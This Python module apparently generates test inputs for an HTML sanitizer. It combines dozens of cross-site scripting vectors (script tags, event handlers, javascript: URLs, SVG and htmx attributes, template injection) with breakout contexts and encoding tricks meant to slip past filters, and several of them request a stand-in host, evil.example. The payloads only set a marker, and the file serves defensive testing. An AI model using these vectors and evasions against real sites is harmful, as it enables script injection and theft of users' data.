"""Owns hostile texts made systematically: every vector, in every context it could break out of, in several encodings.

Each says which one ran: it sets `top.x<number>`. Refuses harmless ones. The hand-picked ones are in payloads.py.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from urllib.parse import quote

CODE = "top.x{n}=1"
ELSEWHERE = "https://evil.example/{n}"
# `{code}` runs, `{url}` is asked for.
VECTORS = (
    "<script>{code}</script>",
    "<script src={url}.js></script>",
    "<svg><script>{code}</script></svg>",
    "<img src=x onerror={code}>",
    "<img src={url}.png>",
    "<image src=x onerror={code}>",
    "<img srcset='{url}.png 1x'>",
    "<picture><source srcset={url}.webp><img></picture>",
    "<svg onload={code}>",
    "<svg><animate onbegin={code} attributeName=x dur=1s>",
    "<svg><set onbegin={code} attributeName=x to=1>",
    "<svg><image href={url}.svg>",
    "<svg><use href={url}.svg#a>",
    "<svg><a href=javascript:{code}><text>x</text></a></svg>",
    "<math><a href=javascript:{code}>x</a></math>",
    "<body onload={code}>",
    "<iframe onload={code}></iframe>",
    "<iframe src=javascript:{code}></iframe>",
    "<iframe srcdoc='<script>{code}</script>'></iframe>",
    "<iframe src={url}></iframe>",
    "<frameset onload={code}>",
    "<object data=javascript:{code}>",
    "<object data={url}.swf>",
    "<embed src={url}.swf>",
    "<form action=javascript:{code}><button>x</button></form>",
    "<button formaction=javascript:{code} autofocus>x</button>",
    "<input autofocus onfocus={code}>",
    "<input type=image src={url}.png>",
    "<select autofocus onfocus={code}>",
    "<textarea autofocus onfocus={code}>",
    "<p contenteditable autofocus onfocus={code}>x</p>",
    "<details open ontoggle={code}>",
    "<video src={url}.mp4 onerror={code}></video>",
    "<video><source src=x onerror={code}></video>",
    "<audio src=x onerror={code}></audio>",
    "<marquee onstart={code}>x</marquee>",
    "<style onload={code}></style>",
    "<style>@import '{url}.css';</style>",
    "<link rel=stylesheet href={url}.css onload={code}>",
    "<link rel=preload as=image href={url}.png>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href={url}/>",
    "<div style=background:url({url})>x</div>",
    "<div style=animation-name:x onanimationstart={code}>x</div>",
    "<a href=javascript:{code}>x</a>",
    "<a href=data:text/html,x onclick={code}>x</a>",
    "<table background={url}.png>",
    "<template><script>{code}</script></template>",
    "<slot onslotchange={code}><b>x</b></slot>",
    "<dialog open onclose={code}>x</dialog>",
)
# What stands before and after it where somebody forgot to escape.
CONTEXTS = (
    "{x}",
    '">{x}',
    "'>{x}",
    "</textarea>{x}",
    "</title></script></style>{x}",
    "-->{x}<!--",
    "]]>{x}",
    "</span></p></div>{x}",
    "![x]({x})",
)
SENTENCES = (
    '" autofocus onfocus={code} x="',
    "' autofocus onfocus={code} x='",
    "` autofocus onfocus={code} `",
    "javascript:{code}",
    "java\tscript:{code}",
    "vbscript:{code}",
    "data:text/html,<script>{code}</script>",
    "{{{{constructor.constructor('{code}')()}}}}",
    "${{{code}}}",
    "';{code};//",
    '";{code};//',
    "</script><script>{code}//",
    "[x](javascript:{code})",
    "![x]({url}.png)",
    "<{url}>",
    '[x]: {url} "title"',
    "#{{{code}}}",
    "<%= {code} %>",
    "data-hx-get={url}",
    '<b data-hx-get="{url}" data-hx-trigger="load">x</b>',
    '<b data-hx-on:load="{code}">x</b>',
    '<b hx-get="{url}" hx-trigger="load">x</b>',
)


def _capitals(text: str) -> str:
    """Names of elements and attributes in mixed case; the code stays as it is."""
    return re.sub(r"</?[a-z]+| on[a-z]+| srcdoc| href| src", lambda found: found[0].title(), text)


def _entities(text: str) -> str:
    """What an attribute's value is decoded from; inside of a script it is not."""
    return text.replace("{code}", "{hidden}").replace("javascript:", "java&Tab;script&colon;")


ENCODINGS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    _capitals,
    lambda text: re.sub(r"(?<=[a-z]) (?=[a-z])", "/", text, count=1),
    lambda text: re.sub(r"(?<=[a-z]) (?=[a-z])", "\n", text),
    lambda text: re.sub(r"(?<=[a-z]) (?=[a-z])", "\t\f", text),
    _entities,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#x3c;").replace(">", "&#62"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: quote(text, safe=" "),
    lambda text: text.replace("<", "<\x00", 1),
    lambda text: text.replace("<", "<\u200b", 1) + text,
    lambda text: text.replace("<", "\uff1c").replace(">", "\ufe65"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace("<", "<<"),
)
EACH = 6
"""How many of the encodings a vector gets in one context: they go round, so that all meet all over the contexts."""


def every() -> tuple[str, ...]:
    """All of them, no two alike but for their number."""
    shapes: dict[str, None] = {}
    for at, vector in enumerate(VECTORS):
        for place, context in enumerate(CONTEXTS):
            for step in range(EACH):
                encode = ENCODINGS[(at + place * EACH + step) % len(ENCODINGS)]
                shapes[context.replace("{x}", encode(vector))] = None
    made = [_numbered(shape, number) for number, shape in enumerate(shapes)]
    return (*made, *(_sentence(text, len(made) + number) for number, text in enumerate(SENTENCES)))


def _numbered(shape: str, number: int) -> str:
    plain = shape.replace("%7Bcode%7D", "{code}").replace("%7Burl%7D", "{url}")
    code, url = CODE.format(n=number), ELSEWHERE.format(n=number)
    hidden = code.replace("top.", "&#116;op&#46;")
    return plain.replace("{code}", code).replace("{hidden}", hidden).replace("{url}", url)


def _sentence(text: str, number: int) -> str:
    return text.format(code=CODE.format(n=number), url=ELSEWHERE.format(n=number))
